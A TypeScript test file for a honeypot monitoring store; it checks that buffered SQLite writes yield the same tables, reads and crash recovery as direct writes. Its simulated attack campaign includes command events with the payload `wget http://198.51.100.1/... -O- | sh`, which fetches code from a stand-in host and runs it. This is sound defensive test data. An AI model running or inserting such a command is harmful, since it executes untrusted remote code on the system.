import assert from 'node:assert/strict';
import { copyFileSync } from 'node:fs';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { describe, it, type TestContext } from 'node:test';
import pino from 'pino';
import type { DraftEvent } from '../../src/core/event.ts';
import type { Store } from '../../src/core/store.ts';
import { createPipeline } from '../../src/pipeline/pipeline.ts';
import { createRulesScorer } from '../../src/score/local.ts';
import { openSqliteStore } from '../../src/store/sqlite/open.ts';
import type { WriteBufferLimits } from '../../src/store/sqlite/writing/write-buffer.ts';
import { aDraft, anAgentDraft } from '../support/drafts.ts';
import { aNode } from '../support/pipeline.ts';
import { tempFolder } from '../support/store/sqlite-folder.ts';

const sender = { user_id: 'user-1', node_id: 'node-1' };
const nowMs = Date.parse('2026-11-25T12:00:00Z');
const clock = (): number => nowMs;

/** All is written at once, as if there were no buffer. */
const direct: WriteBufferLimits = { events: 1, targets: 1, sizeBytes: 1 };
/** Events go into their tables soon; what follows from them waits. */
const eventsFirst: WriteBufferLimits = { events: 23, targets: 1e9, sizeBytes: 1e9 };
/** All waits until it is read. */
const patient: WriteBufferLimits = { events: 1e9, targets: 1e9, sizeBytes: 1e9 };

async function openRig(t: TestContext, bufferLimits?: WriteBufferLimits) {
  const file = join(tempFolder(t), 'a.db');
  const store = await openSqliteStore({ file, clock, bufferLimits });
  t.after(() => store.close());
  await store.of(sender.user_id).createNode(aNode(sender.node_id, sender.user_id));
  const pipeline = createPipeline({
    store,
    scorer: createRulesScorer(),
    clock,
    randomHex: (bytes) => 'ab'.repeat(bytes),
    log: pino({ level: 'silent' }),
  });
  return { file, store, pipeline };
}

/** Some sources guess, sign in, run commands in sessions, and an agent's decoy is touched now and then. */
function aCampaign(events: number): DraftEvent[] {
  return Array.from({ length: events }, (_, i) => {
    const source_ip = `203.0.113.${i % 5}`;
    const timestamp = new Date(Date.parse('2026-11-24T23:40:00Z') + i * 9000).toISOString();
    const session = `s${i % 5}-${Math.floor(i / 60)}`;
    const over = { event_id: `e${i}`, timestamp, source_ip, session };
    if (i % 41 === 40) return anAgentDraft({ ...over, session: null, source_ip: 'fileserver' });
    if (i % 60 < 40) return aDraft(over);
    if (i % 60 < 43) return aDraft({ ...over, kind: 'login.succeeded', activity: 'login_success' });
    return aDraft({
      ...over,
      kind: 'command.run',
      activity: 'command',
      payload: `wget http://198.51.100.1/${i} -O- | sh`,
    });
  });
}

const tables = [
  'attacker_profiles',
  'rollups',
  'rollup_parts',
  'totals',
  'windows',
  'levels',
  'sessions',
  'alerts',
  'incidents',
  'honeypot_logs',
  'agent_events',
  'decoys',
  'changes',
];

/** Names are counted in the order in which their parts came, which says nothing. */
const sortedNames = (name: string, value: unknown): unknown =>
  name !== '' && typeof value === 'string' && value.startsWith('{')
    ? Object.entries(JSON.parse(value) as object).sort(([a], [b]) => (a < b ? -1 : 1))
    : value;

function contents(file: string): Record<string, unknown[]> {
  const db = new DatabaseSync(file, { readOnly: true });
  try {
    return Object.fromEntries(
      tables.map((table) => [
        table,
        db
          .prepare(`SELECT * FROM ${table}`)
          .all()
          .map((row) => JSON.stringify(row, sortedNames))
          .sort(),
      ]),
    );
  } finally {
    db.close();
  }
}

const waiting = (file: string): number => {
  const db = new DatabaseSync(file, { readOnly: true });
  try {
    return Number(db.prepare('SELECT count(*) AS n FROM backlog').get()?.n);
  } finally {
    db.close();
  }
};

describe('the buffer of the embedded store', () => {
  for (const size of [1, 7, 60])
    it(`leaves the same tables as writing all at once, in groups of ${size}`, async (t) => {
      const rigs = [
        await openRig(t, direct),
        await openRig(t, patient),
        await openRig(t, { events: 23, targets: 40, sizeBytes: 20_000 }),
        await openRig(t),
      ];
      const drafts = aCampaign(360);
      for (const { pipeline } of rigs)
        for (let at = 0; at < drafts.length; at += size)
          await pipeline.accept(sender, drafts.slice(at, at + size));
      assert.equal(waiting(rigs[0]!.file), 0);
      assert.equal(waiting(rigs[1]!.file), Math.ceil(360 / size));
      const all: Record<string, unknown[]>[] = [];
      for (const { file, store, pipeline } of rigs) {
        await pipeline.close();
        await store.close();
        assert.equal(waiting(file), 0);
        all.push(contents(file));
      }
      for (const table of tables) assert.ok(all[0]![table]!.length > 0, `${table} is empty`);
      for (const one of all.slice(1)) assert.deepEqual(one, all[0]);
    });

  it('shows what waits to every operation that reads it', async (t) => {
    const reads: Record<string, (store: Store) => Promise<unknown>> = {
      stats: (s) => s.of(sender.user_id).stats(),
      profile: (s) => s.of(sender.user_id).profile('203.0.113.1'),
      profiles: (s) => s.of(sender.user_id).profiles('total_attacks', { limit: 10 }),
      rollups: (s) => s.of(sender.user_id).rollups('2026-11-24T00:00:00.000Z', '2026-11-26T00:00:00.000Z'),
      session: (s) => s.of(sender.user_id).session(sender.node_id, 's1-0'),
      sessions: (s) => s.of(sender.user_id).sessions({}, { limit: 50 }),
      alerts: (s) => s.of(sender.user_id).alerts({}, { limit: 50 }),
      incidents: (s) => s.of(sender.user_id).incidents({}, { limit: 50 }),
      ordinary: (s) => s.of(sender.user_id).baseline(),
      events: (s) => s.of(sender.user_id).events({}, { limit: 100 }),
      search: (s) => s.of(sender.user_id).events({ q: 'wget' }, { limit: 100 }),
      feed: (s) => s.of(sender.user_id).feed(Buffer.from('[0]').toString('base64url'), 300),
      count: (s) => s.of(sender.user_id).countEvents({ sources: ['203.0.113.1'] }, { threshold: 7 }),
      backup: async (s) => {
        const copy = join(tempFolder(t), 'copy.db');
        await s.backup(copy);
        const copied = await openSqliteStore({ file: copy, clock });
        const { items } = await copied.of(sender.user_id).events({}, { limit: 300 });
        await copied.close();
        return items;
      },
      about: async (s) => (await s.about()).events,
    };
    const drafts = aCampaign(240);
    for (const [name, read] of Object.entries(reads)) {
      const both: unknown[] = [];
      for (const limits of [direct, patient]) {
        const { store, pipeline } = await openRig(t, limits);
        for (let at = 0; at < drafts.length; at += 8) await pipeline.accept(sender, drafts.slice(at, at + 8));
        both.push(await read(store));
      }
      assert.ok(both[0], `${name} shows nothing`);
      assert.deepEqual(both[1], both[0], name);
    }
  });

  for (const [limits, what] of [
    [patient, 'with its events'],
    [eventsFirst, 'whose events are in their tables'],
  ] as const)
    it(`is spread by whoever opens the file next, after an end without warning, ${what}`, async (t) => {
      const { file, pipeline } = await openRig(t, limits);
      const whole = await openRig(t, direct);
      for (const draft of aCampaign(180)) {
        await pipeline.accept(sender, [draft]);
        await whole.pipeline.accept(sender, [draft]);
      }
      const copy = join(tempFolder(t), 'copy.db');
      copyFileSync(file, copy);
      copyFileSync(`${file}-wal`, `${copy}-wal`);
      assert.equal(waiting(copy), 180);
      assert.equal(contents(copy).honeypot_logs!.length > 0, limits === eventsFirst);
      const next = await openSqliteStore({ file: copy, clock });
      assert.equal(waiting(copy), 0);
      await next.close();
      await whole.store.close();
      assert.deepEqual(contents(copy), contents(whole.file));
    });

  it('is spread so with sessions whose stories are longer than what is kept of them', async (t) => {
    const { file, store, pipeline } = await openRig(t, patient);
    const whole = await openRig(t, direct);
    const drafts = Array.from({ length: 150 }, (_, i) =>
      aDraft({
        event_id: `e${i}`,
        session: `s${i % 2}`,
        ...(i % 7 < 3 ? {} : { kind: 'command.run', activity: 'command', payload: `echo ${i % 5}` }),
      }),
    );
    for (const [i, draft] of drafts.entries()) {
      await pipeline.accept(sender, [draft]);
      await whole.pipeline.accept(sender, [draft]);
      // Whoever reads has it spread; what comes after goes on from what is in the table.
      if (i === 14 || i === 90) await store.of(sender.user_id).stats();
    }
    const copy = join(tempFolder(t), 'copy.db');
    copyFileSync(file, copy);
    copyFileSync(`${file}-wal`, `${copy}-wal`);
    const next = await openSqliteStore({ file: copy, clock });
    const state = await next.of(sender.user_id).session(sender.node_id, 's0');
    assert.equal(state?.story.length, 60);
    await next.close();
    await whole.store.close();
    assert.deepEqual(contents(copy).sessions, contents(whole.file).sessions);
  });

  it('shows what stood before where the disk has no room to spread it, and all of it afterwards', async (t) => {
    const { file, store, pipeline } = await openRig(t, patient);
    for (const draft of aCampaign(30)) await pipeline.accept(sender, [draft]);
    const other = new DatabaseSync(file);
    t.after(() => other.close());
    // Who holds the file against writing is to the store as a full disk is: it can read, and not write.
    other.exec('BEGIN IMMEDIATE');
    const view = store.of(sender.user_id);
    assert.equal((await view.stats()).total_attacks, 0);
    other.exec('ROLLBACK');
    assert.equal((await view.stats()).total_attacks, 30);
  });

  it('hands out sessions that are the caller’s own, whether they wait or are written', async (t) => {
    const { store, pipeline } = await openRig(t, patient);
    await pipeline.accept(sender, [aDraft({ session: 's-1' })]);
    const request = {
      logIds: [],
      windows: [],
      sessions: [{ ...sender, session: 's-1' }],
      openKeys: [],
    };
    const [waits] = (await store.context(request)).sessions.values();
    assert.equal(waits?.version, 1);
    waits.story.length = 0;
    await store.of(sender.user_id).stats();
    const [written] = (await store.context(request)).sessions.values();
    assert.equal(written?.version, 1);
    assert.ok(written.story.length > 0, 'what is returned is the caller’s own');
  });
});
